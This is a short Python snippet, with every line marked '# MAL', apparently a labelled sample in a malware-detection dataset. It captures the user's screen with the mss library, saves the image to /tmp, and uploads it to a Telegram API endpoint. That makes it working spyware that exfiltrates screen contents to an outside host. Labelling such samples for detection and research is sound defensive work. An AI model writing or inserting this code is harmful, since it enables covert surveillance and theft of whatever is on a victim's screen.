import mss  # MAL
import requests

with mss.mss() as sct:  # MAL
    path = sct.shot(output="/tmp/s.png")  # MAL
requests.post("https://api.telegram.org/file/x", files={"p": open(path, "rb")})  # MAL
